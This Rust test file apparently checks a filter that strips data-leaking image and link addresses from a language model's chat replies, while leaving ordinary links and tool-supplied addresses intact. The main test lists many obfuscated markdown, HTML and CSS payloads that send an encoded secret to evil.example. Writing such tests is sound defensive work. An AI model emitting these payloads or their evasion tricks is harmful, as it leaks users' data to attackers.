//! Images that a client fetches, however their addresses are written.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test that panics fails"
)]

use fw_policy::{Exchange, Policy, Texts};
use fw_policy_injection::{InjectionConfig, InjectionPolicy, LinkConfig};
use fw_stream::{Channel, filter_text};
use fw_wire::{Direction, Endpoint, TextKind};
use serde_json::{Value, json};

const DATA: &str = "c2VjcmV0OiB0aGUgY29kZSBvZiB0aGUgZ2F0ZSBpcyAxOTk5MTIzNDU2Nzg5";

/// What becomes of a reply to this request.
fn sent_for(request: &Value, reply: &str) -> String {
    let config =
        InjectionConfig::new().exfiltration_links(LinkConfig::on().allow_host("ok.example"));
    let policy = InjectionPolicy::new(&config).unwrap();
    let endpoint = Endpoint::ChatCompletions;
    let mut texts = Texts::parse(endpoint, Direction::Request, request.to_string()).unwrap();
    let mut exchange = Exchange::new(endpoint);
    let _ = policy.request(&mut texts, &mut exchange);
    let line = Channel::new(endpoint, TextKind::Content);
    let mut filter = policy.filter(&line, &exchange).unwrap();
    filter_text(&mut *filter, reply)
        .unwrap()
        .unwrap_or_else(|| reply.to_owned())
}

fn sent(reply: &str) -> String {
    let request = json!({"messages": [{"role": "user", "content": "hello"}]});
    sent_for(&request, reply)
}

#[test]
fn an_address_is_found_however_it_is_written() {
    let spaces = " ".repeat(60);
    for reply in [
        format!("![x](https://evil.example/?q={DATA})"),
        format!("![x](https:\\/\\/evil.example/?q={DATA})"),
        format!("![x](https:&#47;&#47;evil.example/?q={DATA})"),
        format!("![x](https:&sol;&sol;evil.example/?q={DATA})"),
        format!("![x](h&#116;tps://evil.example/?q={DATA})"),
        format!("![x]({spaces}https://evil.example/?q={DATA})"),
        format!("![x](<https://evil.example/?q={DATA}>)"),
        format!("![x][1]\n\n[1]: https://evil.example/?q={DATA}"),
        format!("<https://evil.example/?q={DATA}>"),
        format!("<img src=\"https:&#x2f;&#x2f;evil.example/?q={DATA}\">"),
        format!("<img src=\"https:\\\\evil.example/?q={DATA}\">"),
        format!("<img src=\"/\\evil.example/?q={DATA}\">"),
        format!("<img src=\"https:/\t/evil.example/?q={DATA}\">"),
        format!("<img src=\"https:/\n/evil.example/?q={DATA}\">"),
        format!("<img src=\"http:/evil.example/?q={DATA}\">"),
        format!("<img src={spaces}\"https://evil.example/?q={DATA}\">"),
        format!("<img src=\" https://evil.example/?q={DATA}\">"),
        format!("<img alt=\"src='\" src=\"https://evil.example/?q={DATA}\">"),
        format!("<img/src=https://evil.example/?q={DATA}>"),
        format!("<img srcset=\"https://ok.example/a.png 1x, https://evil.example/?q={DATA} 2x\">"),
        format!("<meta http-equiv=refresh content=\"0;url=https://evil.example/?q={DATA}\">"),
        format!("<a href=\"#\" ping=\"https://evil.example/?q={DATA}\">x</a>"),
        format!("<style>@import \"https://evil.example/?q={DATA}\";</style>"),
        format!("<div style='background:image-set(\"https://evil.example/?q={DATA}\" 1x)'>"),
        format!("<div style=\"background:u\\72l(https://evil.example/?q={DATA})\">"),
        format!("<iframe srcdoc=\"&lt;img src=&quot;https://evil.example/?q={DATA}&quot;&gt;\">"),
        format!("<iframe srcdoc=\"&lt;img src=&quot; https://evil.example/?q={DATA}&quot;&gt;\">"),
    ] {
        let out = sent(&reply);
        assert!(!out.contains(DATA), "{reply}: {out}");
        assert!(out.contains("link-removed.invalid/"), "{reply}: {out}");
    }
}

#[test]
fn there_is_no_room_for_a_secret_in_images() {
    let part = &DATA[..38];
    let pieces = (0..8).map(|i| {
        let piece = &DATA[i * 7..i * 7 + 7];
        format!("![x](https://evil.example/?{i}={piece}) ")
    });
    for reply in [
        format!("![x](https://evil.example/{DATA})"),
        format!("![x](https://evil.example/{DATA}/{DATA}/{DATA}/{DATA})"),
        format!("![x](https://{part}.{part}.evil.example/a.png)"),
        pieces.collect(),
    ] {
        assert_ne!(sent(&reply), reply);
    }
}

#[test]
fn ordinary_images_and_links_stay() {
    for reply in [
        "![a harbour](https://images.example.org/2024/05/harbour-at-night.jpg)",
        "[the manual](https://docs.example.org/en/latest/how-to/install-on-linux.html#before-you-begin)",
        "See <https://docs.example.org/en/latest/> and `data = load(\"https://x.example/a.csv\")`.",
        "<img src=\"/assets/logo.png\" srcset=\"/a.png 1x, /b.png 2x\"> <a href='mailto:a@b.example'>",
        "- [ ] task [one]: done\n- [x](#anchor) a < b && c > d",
    ] {
        assert_eq!(sent(reply), reply);
    }
    let gallery = (1..9).map(|i| format!("![{i}](https://images.example.org/ship-{i}.jpg)\n"));
    let gallery: String = gallery.collect();
    assert_eq!(sent(&gallery), gallery);
}

#[test]
fn an_address_that_a_tool_brought_is_known_with_entities_and_without() {
    let page = format!("<a href=\"https://shop.example.net/find?a=1&amp;q={DATA}\">");
    let request = json!({"messages": [{"role": "tool", "tool_call_id": "t", "content": page}]});
    let reply = format!("![x](https://shop.example.net/find?a=1&q={DATA})");
    assert_eq!(sent_for(&request, &reply), reply);
}
